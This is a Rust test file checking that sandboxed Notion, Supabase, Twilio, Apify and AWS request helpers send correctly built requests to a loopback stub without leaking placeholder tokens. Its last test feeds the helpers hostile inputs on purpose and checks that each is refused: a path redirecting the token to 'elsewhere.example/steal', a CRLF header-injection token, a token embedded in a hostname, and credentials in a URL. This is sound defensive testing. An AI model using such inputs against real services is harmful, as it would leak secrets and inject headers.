//! The request-building service packs (`aws`, `notion`, `supabase`, `twilio`, `apify`) through
//! `nodetool run`: a confined sandbox worker builds each request with the helper, reads the
//! token with `getSecret`, and sends it with its own brokered `fetch` to a loopback stub that
//! checks every request (method, path, query, headers, Authorization, body) and answers as the
//! API would. The guest points each request at the stub by replacing the API's origin, the one
//! thing that differs from a real run. And the token never shows in an error or a log line.

use nodetool_tests::world::{World, shipped_packs};
use std::collections::BTreeMap;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use sha2::Digest;

/// One request the stub received.
#[derive(Debug, Clone)]
struct Seen {
    method: String,
    /// Path and query, as on the request line.
    target: String,
    /// Lower-case names; repeats joined with ", ".
    headers: BTreeMap<String, String>,
    body: String,
}

/// A loopback HTTP/1.1 server answering each request with `answer(&request, &earlier)` (a
/// status and a body), recording every request. It stops when dropped.
struct Stub {
    port: u16,
    seen: Arc<Mutex<Vec<Seen>>>,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Stub {
    fn start(answer: fn(&Seen, &[Seen]) -> (u16, String)) -> Stub {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("bind: {e}"));
        let port = listener.local_addr().map(|a| a.port()).unwrap_or(0);
        listener
            .set_nonblocking(true)
            .unwrap_or_else(|e| panic!("{e}"));
        let seen = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (seen_in, stop_in) = (seen.clone(), stop.clone());
        let thread = std::thread::spawn(move || {
            // Bounded: a test never needs the stub for more than a minute.
            let until = Instant::now() + Duration::from_secs(60);
            while !stop_in.load(Ordering::SeqCst) && Instant::now() < until {
                match listener.accept() {
                    Ok((stream, _)) => {
                        let before = seen_in.lock().map(|s| s.clone()).unwrap_or_default();
                        if let Some(request) = read_request(stream, answer, &before)
                            && let Ok(mut s) = seen_in.lock()
                        {
                            s.push(request);
                        }
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(5)),
                }
            }
        });
        Stub {
            port,
            seen,
            stop,
            thread: Some(thread),
        }
    }

    fn base(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    fn seen(&self) -> Vec<Seen> {
        self.seen.lock().map(|s| s.clone()).unwrap_or_default()
    }
}

impl Drop for Stub {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

fn read_request(
    stream: TcpStream,
    answer: fn(&Seen, &[Seen]) -> (u16, String),
    before: &[Seen],
) -> Option<Seen> {
    stream.set_nonblocking(false).ok()?;
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .ok()?;
    let mut reader = BufReader::new(stream.try_clone().ok()?);
    let mut line = String::new();
    reader.read_line(&mut line).ok()?;
    let mut parts = line.split_whitespace();
    let (method, target) = (parts.next()?.to_string(), parts.next()?.to_string());
    let mut headers: BTreeMap<String, String> = BTreeMap::new();
    loop {
        let mut header = String::new();
        reader.read_line(&mut header).ok()?;
        let header = header.trim_end();
        if header.is_empty() {
            break;
        }
        let (name, value) = header.split_once(':')?;
        headers
            .entry(name.trim().to_ascii_lowercase())
            .and_modify(|v| {
                v.push_str(", ");
                v.push_str(value.trim());
            })
            .or_insert_with(|| value.trim().to_string());
    }
    let length: usize = headers
        .get("content-length")
        .and_then(|l| l.parse().ok())
        .unwrap_or(0);
    let mut body = vec![0u8; length.min(4 * 1024 * 1024)];
    reader.read_exact(&mut body).ok()?;
    let seen = Seen {
        method,
        target,
        headers,
        body: String::from_utf8_lossy(&body).into_owned(),
    };
    let (status, text) = answer(&seen, before);
    let content_type = if text.starts_with(['{', '[']) {
        "application/json"
    } else {
        "text/plain"
    };
    let response = format!(
        "HTTP/1.1 {status} OK\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{text}",
        text.len()
    );
    let mut stream = stream;
    stream.write_all(response.as_bytes()).ok()?;
    Some(seen)
}

/// `nodetool run --json --allow-fetch 127.0.0.1` with the secrets given: the JSON answer, the
/// exit code and everything the run wrote (stdout and stderr).
fn run(code: &str, inputs: &Value, secrets: &[(&str, &str)], allow: bool) -> (Value, i32, String) {
    let world = World::with_shipped(shipped_packs());
    let mut args: Vec<String> = vec![
        "run".into(),
        "--json".into(),
        "--timeout-ms".into(),
        "20000".into(),
        "--input".into(),
        inputs.to_string(),
    ];
    if allow {
        args.extend(["--allow-fetch".into(), "127.0.0.1".into()]);
    }
    for (name, value) in secrets {
        args.extend(["--secret".into(), format!("{name}={value}")]);
    }
    let output = assert_cmd::Command::from_std(world.command(env!("CARGO_BIN_EXE_nodetool")))
        .args(&args)
        .write_stdin(code)
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    let json: Value =
        serde_json::from_str(stdout.trim()).unwrap_or_else(|e| panic!("{e}: {stdout} {stderr}"));
    (json, output.status.code().unwrap_or(-1), stdout + &stderr)
}

const NOTION_TOKEN: &str = "ntn_SECRET_notion_4b1d";
const SUPABASE_KEY: &str = "sb_SECRET_anon_77c2";
const TWILIO_TOKEN: &str = "tw_SECRET_auth_91aa";
const APIFY_TOKEN: &str = "apify_api_SECRET_03fe";
const AWS_SECRET: &str = "aws/SECRET+key/wJalrXUtnFEMI";

fn secrets() -> Vec<(&'static str, &'static str)> {
    vec![
        ("NOTION_API_KEY", NOTION_TOKEN),
        ("SUPABASE_KEY", SUPABASE_KEY),
        ("TWILIO_ACCOUNT_SID", "AC0123"),
        ("TWILIO_AUTH_TOKEN", TWILIO_TOKEN),
        ("APIFY_API_TOKEN", APIFY_TOKEN),
        ("AWS_ACCESS_KEY_ID", "AKIDEXAMPLE"),
        ("AWS_SECRET_ACCESS_KEY", AWS_SECRET),
    ]
}

fn assert_no_secret(text: &str) {
    for secret in [
        NOTION_TOKEN,
        SUPABASE_KEY,
        TWILIO_TOKEN,
        APIFY_TOKEN,
        AWS_SECRET,
    ] {
        assert!(!text.contains(secret), "a secret leaked: {text}");
    }
    assert!(!text.contains("SECRET"), "a secret leaked: {text}");
}

/// What the stub answers, by request, as each API would.
fn api(seen: &Seen, earlier: &[Seen]) -> (u16, String) {
    let path = seen.target.split('?').next().unwrap_or_default();
    let body = match (seen.method.as_str(), path) {
        ("POST", "/v1/search") => json!({ "object": "list", "results": [{ "id": "page-1" }] }),
        ("GET", "/v1/blocks/page-1/children") => json!({ "results": [
            { "type": "heading_2", "heading_2": { "rich_text": [{ "plain_text": "Status" }] } },
            { "type": "to_do", "to_do": { "rich_text": [{ "plain_text": "ship it" }], "checked": true } }
        ] }),
        ("GET", "/rest/v1/issues") => json!([{ "id": 7, "title": "flaky test" }]),
        ("POST", "/rest/v1/rpc/search_issues") => json!([{ "id": 7 }]),
        ("POST", "/2010-04-01/Accounts/AC0123/Messages.json") => {
            json!({ "sid": "SM1", "status": "queued" })
        }
        ("POST", "/v2/acts/apify~web-scraper/runs") => {
            json!({ "data": { "id": "run-1", "status": "RUNNING" } })
        }
        // The first poll finds it running, the next done.
        ("GET", "/v2/actor-runs/run-1") => {
            let done = earlier.iter().any(|e| e.target == seen.target);
            json!({ "data": { "id": "run-1", "status": if done { "SUCCEEDED" } else { "RUNNING" }, "defaultDatasetId": "ds-1" } })
        }
        ("GET", "/v2/datasets/ds-1/items") => json!([{ "url": "https://example.com/" }]),
        ("PUT", "/my-bucket/k%20ey%281%29.txt") | ("GET", "/my-bucket/report.pdf") => {
            return (200, "stored".into());
        }
        _ => return (200, "this is not json".into()),
    };
    (200, body.to_string())
}

/// A request the stub must see: method, path and query, some headers, the body.
type Expected = (
    &'static str,
    String,
    Vec<(&'static str, String)>,
    &'static str,
);

#[test]
fn every_service_helper_builds_requests_the_stub_accepts() {
    let stub = Stub::start(api);
    let code = r#"
import { request as notion, toMarkdown } from "@nodetool-ai/sandbox-notion";
import { from, rpc } from "@nodetool-ai/sandbox-supabase";
import { request as twilio } from "@nodetool-ai/sandbox-twilio";
import { startRun, runStatus, datasetItems } from "@nodetool-ai/sandbox-apify";
// The one change from a real run: the API's origin becomes the stub's.
const local = (req) => ({ ...req, url: req.url.replace(/^https:\/\/[^/]+/, inputs.base) });
const send = async (req) => (await fetch(local(req).url, local(req))).json();

const token = await getSecret("NOTION_API_KEY");
const found = await send(await notion({ token, path: "search", method: "POST", body: { query: "roadmap", page_size: 10 } }));
const blocks = await send(await notion({ token, path: `blocks/${found.results[0].id}/children`, query: { page_size: 100 } }));
const markdown = await toMarkdown(blocks.results);

const key = await getSecret("SUPABASE_KEY");
const rows = await send(await from({ url: inputs.base, key, table: "issues", select: "id,title", filters: { status: "eq.open", age: { gte: 18 } }, order: "created_at.desc", limit: 20 }));
const hits = await send(await rpc({ url: inputs.base, key, fn: "search_issues", args: { term: "flaky" } }));

const message = await send(await twilio({
  accountSid: await getSecret("TWILIO_ACCOUNT_SID"), authToken: await getSecret("TWILIO_AUTH_TOKEN"),
  path: "Messages.json", method: "POST", params: { To: "+15551234567", From: "+15559876543", Body: "shipped" },
}));

const apifyToken = await getSecret("APIFY_API_TOKEN");
let run = (await send(await startRun({ token: apifyToken, actor: "apify/web-scraper", input: { startUrls: [{ url: "https://example.com/" }] }, memoryMbytes: 512 }))).data;
let polls = 0;
while (run.status === "RUNNING" && polls < 5) {
  polls += 1;
  run = (await send(await runStatus({ token: apifyToken, runId: run.id }))).data;
}
const items = await send(await datasetItems({ token: apifyToken, datasetId: run.defaultDatasetId, clean: true }));
return { markdown, rows, hits, sid: message.sid, status: run.status, polls, items };
"#;
    let (out, status, all) = run(code, &json!({ "base": stub.base() }), &secrets(), true);
    assert_eq!(status, 0, "{out}");
    assert_eq!(
        out["result"],
        json!({
            "markdown": "## Status\n\n- [x] ship it",
            "rows": [{ "id": 7, "title": "flaky test" }],
            "hits": [{ "id": 7 }],
            "sid": "SM1",
            "status": "SUCCEEDED",
            "polls": 2,
            "items": [{ "url": "https://example.com/" }],
        })
    );
    assert_no_secret(&all);

    let seen = stub.seen();
    let host = format!("127.0.0.1:{}", stub.port);
    let expect: Vec<Expected> = vec![
        (
            "POST",
            "/v1/search".into(),
            vec![
                ("authorization", format!("Bearer {NOTION_TOKEN}")),
                ("notion-version", "2022-06-28".into()),
                ("content-type", "application/json".into()),
            ],
            r#"{"query":"roadmap","page_size":10}"#,
        ),
        (
            "GET",
            "/v1/blocks/page-1/children?page_size=100".into(),
            vec![
                ("authorization", format!("Bearer {NOTION_TOKEN}")),
                ("notion-version", "2022-06-28".into()),
            ],
            "",
        ),
        (
            "GET",
            "/rest/v1/issues?select=id%2Ctitle&status=eq.open&age=gte.18&order=created_at.desc&limit=20".into(),
            vec![
                ("apikey", SUPABASE_KEY.into()),
                ("authorization", format!("Bearer {SUPABASE_KEY}")),
                ("prefer", "return=representation".into()),
            ],
            "",
        ),
        (
            "POST",
            "/rest/v1/rpc/search_issues".into(),
            vec![
                ("apikey", SUPABASE_KEY.into()),
                ("content-type", "application/json".into()),
            ],
            r#"{"term":"flaky"}"#,
        ),
        (
            "POST",
            "/2010-04-01/Accounts/AC0123/Messages.json".into(),
            vec![
                (
                    "authorization",
                    format!(
                        "Basic {}",
                        base64::Engine::encode(
                            &base64::engine::general_purpose::STANDARD,
                            format!("AC0123:{TWILIO_TOKEN}")
                        )
                    ),
                ),
                ("content-type", "application/x-www-form-urlencoded".into()),
            ],
            "To=%2B15551234567&From=%2B15559876543&Body=shipped",
        ),
        (
            "POST",
            "/v2/acts/apify~web-scraper/runs?memory=512".into(),
            vec![
                ("authorization", format!("Bearer {APIFY_TOKEN}")),
                ("content-type", "application/json".into()),
            ],
            r#"{"startUrls":[{"url":"https://example.com/"}]}"#,
        ),
        (
            "GET",
            "/v2/actor-runs/run-1".into(),
            vec![("authorization", format!("Bearer {APIFY_TOKEN}"))],
            "",
        ),
        (
            "GET",
            "/v2/actor-runs/run-1".into(),
            vec![("authorization", format!("Bearer {APIFY_TOKEN}"))],
            "",
        ),
        (
            "GET",
            "/v2/datasets/ds-1/items?format=json&clean=true".into(),
            vec![("authorization", format!("Bearer {APIFY_TOKEN}"))],
            "",
        ),
    ];
    assert_eq!(seen.len(), expect.len(), "{seen:#?}");
    for (got, (method, target, headers, body)) in seen.iter().zip(&expect) {
        assert_eq!(&got.method, method, "{got:?}");
        assert_eq!(&got.target, target, "{got:?}");
        assert_eq!(got.headers.get("host"), Some(&host), "{got:?}");
        for (name, value) in headers {
            assert_eq!(got.headers.get(*name), Some(value), "{name} of {got:?}");
        }
        assert_eq!(&got.body, body, "{got:?}");
    }
}

#[test]
fn aws_signed_and_presigned_requests_reach_the_stub_as_signed() {
    let stub = Stub::start(api);
    let code = r#"
import { sigv4, presign } from "@nodetool-ai/sandbox-aws";
const accessKeyId = await getSecret("AWS_ACCESS_KEY_ID");
const secretAccessKey = await getSecret("AWS_SECRET_ACCESS_KEY");
const body = "hello";
const signed = await sigv4({
  method: "PUT", url: `${inputs.base}/my-bucket/k ey(1).txt`, service: "s3", region: "eu-west-3",
  headers: { "Content-Type": "text/plain", "X-Amz-Meta-Note": "  folded \r\n  note " },
  body, accessKeyId, secretAccessKey, sessionToken: "session-token",
});
const put = await fetch(signed.url, { method: signed.method, headers: signed.headers, body });
const link = await presign({ url: `${inputs.base}/my-bucket/report.pdf`, expiresIn: 600, accessKeyId, secretAccessKey });
const got = await fetch(link);
return { signed, put: await put.text(), link, got: await got.text() };
"#;
    let (out, status, all) = run(code, &json!({ "base": stub.base() }), &secrets(), true);
    assert_eq!(status, 0, "{out}");
    assert_no_secret(&all);
    let r = &out["result"];
    assert_eq!(r["put"], "stored");
    assert_eq!(r["got"], "stored");
    let signed = &r["signed"];
    assert_eq!(
        signed["url"],
        format!("{}/my-bucket/k%20ey%281%29.txt", stub.base())
    );
    // What the stub received is what was signed: the path, the host, every signed header.
    let seen = stub.seen();
    assert_eq!(seen.len(), 2, "{seen:#?}");
    let put = &seen[0];
    assert_eq!(put.method, "PUT");
    assert_eq!(put.target, "/my-bucket/k%20ey%281%29.txt");
    assert_eq!(
        put.headers.get("host"),
        Some(&format!("127.0.0.1:{}", stub.port))
    );
    let hash = format!("{:x}", sha2::Sha256::digest(b"hello"));
    assert_eq!(put.headers.get("x-amz-content-sha256"), Some(&hash));
    assert_eq!(
        put.headers.get("x-amz-meta-note").map(String::as_str),
        Some("folded note")
    );
    assert_eq!(
        put.headers.get("x-amz-security-token").map(String::as_str),
        Some("session-token")
    );
    let authorization = signed["headers"]["Authorization"]
        .as_str()
        .unwrap_or_default();
    assert_eq!(
        put.headers.get("authorization").map(String::as_str),
        Some(authorization)
    );
    assert!(
        authorization.starts_with("AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/"),
        "{authorization}"
    );
    assert!(
        authorization.contains("/eu-west-3/s3/aws4_request, SignedHeaders=content-type;host;x-amz-content-sha256;x-amz-date;x-amz-meta-note;x-amz-security-token, Signature="),
        "{authorization}"
    );
    assert_eq!(put.body, "hello");
    let get = &seen[1];
    assert_eq!(get.method, "GET");
    let link = r["link"].as_str().unwrap_or_default();
    assert_eq!(format!("{}{}", stub.base(), get.target), link);
    assert!(
        get.target.starts_with(
            "/my-bucket/report.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIDEXAMPLE%2F"
        ),
        "{}",
        get.target
    );
}

#[test]
fn errors_and_logs_never_carry_the_token() {
    let stub = Stub::start(api);
    // A bad argument, a refused host, a non-JSON answer, each caught; then one uncaught.
    let code = r#"
import { request as notion } from "@nodetool-ai/sandbox-notion";
import { request as twilio } from "@nodetool-ai/sandbox-twilio";
import { sigv4 } from "@nodetool-ai/sandbox-aws";
const token = await getSecret("NOTION_API_KEY");
const errors = [];
const attempt = async (f) => { try { await f(); errors.push("no error"); } catch (e) { errors.push(String(e.message)); console.log("caught:", e.message); } };
await attempt(() => notion({ token, path: "//elsewhere.example/steal" }));
await attempt(() => notion({ token: token + "\r\nX-Injected: 1", path: "search" }));
await attempt(() => twilio({ accountSid: "AC0123", authToken: token, host: `${token}.example.com`, path: "x" }));
await attempt(() => sigv4({ url: `https://${token}@s3.amazonaws.com/`, accessKeyId: "AK", secretAccessKey: token }));
await attempt(() => sigv4({ url: "https://s3.amazonaws.com/", accessKeyId: token + " x", secretAccessKey: token }));
await attempt(async () => { const req = await notion({ token, path: "search", method: "POST", body: {} }); await fetch(req.url, req); });
await attempt(async () => {
  const req = await notion({ token, path: "users/me" });
  const local = req.url.replace("https://api.notion.com", inputs.base);
  await (await fetch(local, req)).json();
});
console.warn("done with", errors.length, "errors");
if (inputs.uncaught) await notion({ token, path: "//elsewhere.example/" });
return errors;
"#;
    let (out, status, all) = run(code, &json!({ "base": stub.base() }), &secrets(), true);
    assert_eq!(status, 0, "{out}");
    assert_no_secret(&all);
    let errors = out["result"].as_array().cloned().unwrap_or_default();
    assert_eq!(
        errors[..6],
        [
            "notion.request: path must stay on api.notion.com",
            "notion.request: token has a line break or control character",
            "twilio.request: host must be a twilio.com host, such as api.twilio.com or lookups.twilio.com",
            "aws.sigv4: url must not carry a user name or password",
            "aws.sigv4: accessKeyId must be at most 256 characters, without spaces, '/' or ','",
            "fetch: \"api.notion.com\" is not an allowed host for this run",
        ],
        "{out}"
    );
    // The non-JSON answer is the JSON reader's error (its wording is the guest's).
    assert!(
        errors
            .get(6)
            .and_then(Value::as_str)
            .is_some_and(|m| m != "no error"),
        "{out}"
    );
    // The stub got the one request that was allowed, its token in the header only.
    let seen = stub.seen();
    assert_eq!(seen.len(), 1, "{seen:#?}");
    assert_eq!(seen[0].target, "/v1/users/me");
    // Uncaught, the run's error is the module's message, without the token.
    let (out, status, all) = run(
        code,
        &json!({ "base": stub.base(), "uncaught": true }),
        &secrets(),
        true,
    );
    assert_eq!(status, 1, "{out}");
    assert_no_secret(&all);
    assert!(
        out["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("notion.request: path must stay on api.notion.com")),
        "{out}"
    );
    // Without the grant there is no fetch at all, and still no token in what the run says.
    let (out, _, all) = run(
        r#"import { request } from "@nodetool-ai/sandbox-notion";
const req = await request({ token: await getSecret("NOTION_API_KEY"), path: "search" });
return typeof fetch;"#,
        &json!({}),
        &secrets(),
        false,
    );
    assert_eq!(out["result"], "undefined", "{out}");
    assert_no_secret(&all);
}
